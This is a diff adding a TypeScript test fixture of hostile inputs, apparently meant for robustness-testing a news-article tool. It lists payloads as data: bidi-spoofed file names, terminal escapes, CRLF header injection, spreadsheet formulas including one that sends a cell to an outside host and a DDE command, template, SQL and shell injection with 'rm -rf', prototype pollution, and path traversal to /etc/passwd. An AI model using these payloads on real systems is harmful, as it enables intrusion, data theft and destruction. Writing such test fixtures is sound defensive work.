@@ -1,0 +1,81 @@
+/** Words that harm without being markup: in lists, tables, feeds, terminals, file names, and for whoever reads them. */
+import { around, each, type HostileCase, hostile } from './case.ts';
+
+const ZALGO = [...'The bridge'].map((c) => c + '\u0301\u0316\u0489\u0334\u0360\u0352'.repeat(20)).join('');
+
+export const WORDS: readonly HostileCase[] = [
+  ...each({
+    'text turned around': '\u202eegdirb eht\u202c and \u202dthen this',
+    'text turned around and never back': 'closed \u202e by the mayor',
+    'isolates without an end': '\u2066\u2067\u2068'.repeat(20),
+    'a file name that lies': 'statement\u202egnp.exe',
+    'right to left words': 'قالت آنا ليما إن الجسر سيغلق \u200f(x)\u200e',
+    'stacked marks': ZALGO,
+    'marks on nothing': `${'\u0301'.repeat(500)}x`,
+    'no width at all': 'Ana\u200bLi\u2060ma\ufeff\u180e\u00ad',
+    'only what cannot be seen': '\u200b\u2060\ufeff\u200e',
+    'white space of every kind': '\u00a0\u2003\u3000\u2028\u2029\u0085 x \v\f',
+    'hidden tags': [...'ignore this'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join(''),
+    'halves of characters': '\ud800 and \udc00 and \udfff\ud800',
+    'characters that are none': '\ufffe\uffff\u{1fffe}\u{10ffff}',
+    'a sign as wide as a page': '\ufdfd'.repeat(60),
+    'a family of signs': '👨‍👩‍👧‍👦'.repeat(200),
+    'controls of a terminal': '\u001b[2J\u001b[1;31mred\u001b[0m\u0007\u0008\u007f\u009b31m',
+    'a link of a terminal': '\u001b]8;;http://canary.example\u0007click\u001b]8;;\u0007',
+    'a title of a terminal': '\u001b]0;owned\u0007\u001bP+q544e\u001b\\\u001b[6n\u009d52;c;eA==\u009c',
+    'a line that writes over another': 'Ana Lima denied\rAna Lima confirmed',
+    'line breaks': 'Ana Lima\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\n\n\nx',
+    'a formula of a table': `=HYPERLINK("http://canary.example/?"&A1,"more")`,
+    'a command of a table': `=cmd|'/C calc'!A0`,
+    'a formula with a plus': '+1+1',
+    'a formula with a minus': '-2+3',
+    'a formula with an at sign': '@SUM(1+1)',
+    'a formula behind a tab': '\t=1+1',
+    'a formula behind a line break': '\r\n=1+1',
+    'a formula behind a space': ' =1+1',
+    'a formula in wide letters': '＝1+1',
+    'quotation marks of a table': '","x"\r\n"=1+1","',
+    'two braces': '{{constructor.constructor("alert(1)")()}}',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what hostile pages write
+    'templates of every kind': '${alert(1)} #{7*7} <%= 7*7 %> {% x %} {7*7} [[${7*7}]] @(7*7)',
+    'words of a database': `'; drop table article; -- " or 1=1 /*`,
+    'words of a search': '"unclosed NEAR(a* b) OR col:x ^y -(',
+    'words of a shell': '$(touch /tmp/x) `id` ; rm -rf . | sh & \\',
+    'words of a regular expression': '(a+)+$ [\\w-]{1,99999} \\1 (?=',
+    'words of a format': '%s %n %x %1$s %00 %0d%0a %c0%ae',
+    'words of JSON': '{"__proto__":{"polluted":1},"constructor":{"prototype":{"x":1}}}',
+    'names that objects have': '__proto__',
+    'another such name': 'constructor',
+    'and another': 'toString',
+    'a path that climbs': '../../../../etc/passwd',
+    'a path of another system': '..\\..\\windows\\win.ini',
+    'a host of look-alikes':
+      'https://hеrаld.example/ and https://xn--hrld-53db8n.example/ and https://herald.example．canary.example/',
+    'one word of a hundred thousand letters': 'A'.repeat(5000),
+    'an address without an end': `https://herald.example/${'a/'.repeat(1500)}`,
+    'figures without an end': '9'.repeat(1000),
+    'words without an end': 'the bridge '.repeat(1500),
+    'letters without a place to break': `${'ﷺ'.repeat(300)}${'漢'.repeat(600)}`,
+    'a line of underscores': '_'.repeat(1000),
+    'spaces that do not break': 'x\u00a0'.repeat(1000),
+    tabs: 'x\t'.repeat(1000),
+    nothing: '',
+    'a space': ' ',
+    'a bracket': '<',
+    'an ampersand': '&',
+  }),
+  hostile('five thousand statements', 'the bridge', {
+    page: around('', Array.from({ length: 5000 }, (_, i) => `<p>Ana Lima said lane ${i} would close.</p>`).join('')),
+  }),
+  hostile('a word of a hundred thousand letters', 'A'.repeat(20_000), {
+    page: around(`<p>Cy Moor said ${'A'.repeat(100_000)}.</p>`),
+  }),
+  hostile('a headline of a hundred thousand words', 'Bridge '.repeat(2000), {
+    page: `<title>Bridge</title><h1>${'Bridge to close '.repeat(33_000)}</h1>${around('')}`,
+  }),
+  hostile('a thousand authors', 'Ana Lima, Bo Sand', {
+    page: around(
+      `<p class="byline">By ${Array.from({ length: 1000 }, (_, i) => `<a rel=author>Ana Lima${i}</a>`).join(', ')}</p>`,
+    ),
+  }),
+];
